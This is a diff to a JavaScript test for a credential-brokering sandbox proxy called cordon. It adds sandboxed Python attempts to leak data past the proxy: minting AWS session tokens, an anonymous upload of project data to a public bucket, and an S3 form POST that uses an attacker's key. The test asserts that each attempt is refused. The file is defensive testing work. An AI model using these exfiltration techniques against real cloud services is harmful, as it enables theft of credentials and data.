@@ -132,7 +132,7 @@ describe('brokered AWS keys, signed again at the proxy', { skip }, () => {
         assert.match(half.stderr, /credentials\.aws\[0\]: the access key id is set but its secret access key \(from \$AWS_SECRET_ACCESS_KEY\) is not/);
       });
 
-      it('the approved-domain attack with AWS: other keys, a session key elsewhere, and requests cordon cannot sign again are refused and reach no server', T, async () => {
+      it('the approved-domain attack with AWS: other keys, a session key elsewhere, unsigned uploads, minting new credentials, and requests cordon cannot sign again are refused and reach no server', T, async () => {
         w.clearRecords();
         const evil = w.host('evil').fqdn;
         const r = await cordon([
@@ -159,13 +159,23 @@ describe('brokered AWS keys, signed again at the proxy', { skip }, () => {
           `out.append(get("https://${w.host('api').fqdn}/b/k", {"Authorization": "AWS4-HMAC-SHA256 Credential=" + os.environ["AWS_ACCESS_KEY_ID"] + "/20250101/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=" + "0" * 64, "x-amz-date": "20250101T000000Z", "x-amz-content-sha256": "UNSIGNED-PAYLOAD"}))`,
           `out.append(get("https://${w.host('api').fqdn}/b/k", {"Authorization": "AWS4-HMAC-SHA256 Credential=" + os.environ["AWS_ACCESS_KEY_ID"] + "/20250101/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=" + "0" * 64, "x-amz-date": "20250101T000000Z", "x-amz-content-sha256": "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"}))`,
           `out.append(get("https://${w.host('api').fqdn}/b/k", {"Authorization": "AWS4-ECDSA-P256-SHA256 Credential=" + os.environ["AWS_ACCESS_KEY_ID"] + "/20250101/s3/aws4_request, SignedHeaders=host, Signature=00", "x-amz-date": "20250101T000000Z"}))`,
+          // Credentials minted with the real keys would come back working (sts:GetSessionToken needs no permission).
+          `out.append(code(lambda: ${client('sts')}.get_session_token()))`,
+          // Unsigned: an anonymous upload to a bucket anyone may write, an S3 browser-form POST with someone else's policy.
+          'def send(url, headers, data, method):',
+          '    try:',
+          '        return urllib.request.urlopen(urllib.request.Request(url, data=data, headers=headers, method=method)).status',
+          '    except urllib.error.HTTPError as x:',
+          '        return x.code',
+          `out.append(send("https://${w.host('api').fqdn}/public-bucket/k", {}, b"project data", "PUT"))`,
+          `out.append(send("https://${w.host('api').fqdn}/", {"Content-Type": "multipart/form-data; boundary=b"}, b'--b\\r\\nContent-Disposition: form-data; name="x-amz-credential"\\r\\n\\r\\nAKIAATTACKERKEY00001/20250101/us-east-1/s3/aws4_request\\r\\n--b\\r\\nContent-Disposition: form-data; name="file"\\r\\n\\r\\nproject data\\r\\n--b--\\r\\n', "POST"))`,
           'print(out)',
         ].join('\n'));
-        assert.equal(r.stdout, '[403, 403, 403, 403, 403, 403, 403]\n', r.stderr);
+        assert.equal(r.stdout, '[403, 403, 403, 403, 403, 403, 403, 403, 403, 403]\n', r.stderr);
         assert.deepEqual(await signedRequests('api'), [], 'the api server received nothing signed');
         assert.deepEqual(w.records(w.host('evil')).filter((x) => x.event === 'request'), []);
         const reasons = r.events.filter((e) => e.type === 'request.refused').map((e) => e.reason);
-        assert.deepEqual(reasons, ['foreign-credential', 'credential-to-unbound-host', 'aws-not-resigned', 'foreign-credential', 'aws-not-resigned', 'aws-not-resigned', 'aws-not-resigned'], r.log);
+        assert.deepEqual(reasons, ['foreign-credential', 'credential-to-unbound-host', 'aws-not-resigned', 'foreign-credential', 'aws-not-resigned', 'aws-not-resigned', 'aws-not-resigned', 'aws-not-resigned', 'aws-not-resigned', 'aws-not-resigned'], r.log);
       });
     });
   }
